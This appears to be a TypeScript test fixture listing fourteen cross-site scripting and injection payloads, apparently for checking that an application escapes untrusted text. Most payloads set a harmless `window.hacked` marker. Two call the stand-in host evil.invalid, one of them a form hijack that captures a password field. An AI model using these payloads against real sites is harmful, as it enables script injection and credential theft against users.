/**
 * Texts that would run if any place took them for code. Each sets `window.hacked`, asks a foreign host, or opens a
 * dialog.
 */
export const HOSTILE_TEXTS = [
  `<script>window.hacked=1</script>`,
  `</script><script>window.hacked=2</script>`,
  `"><img src=x onerror=window.hacked=3>`,
  `'><svg/onload=window.hacked=4>`,
  `<iframe srcdoc="<script>parent.hacked=5</script>"></iframe>`,
  `<a href="javascript:window.hacked=6" autofocus onfocus=window.hacked=6>x</a>`,
  `javascript:window.hacked=7//`,
  `{{constructor.constructor('window.hacked=8')()}}`,
  '${window.hacked=9}',
  `<style>@import 'http://evil.invalid/x.css';*{display:none}</style>`,
  `<base href="http://evil.invalid/"><form action="http://evil.invalid"><input name=password>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=10&gt;">`,
  // as a part of a script it would hide the end of that script
  `<!--<script>`,
  `\u202e<img src=x onerror=window.hacked=11>`,
] as const
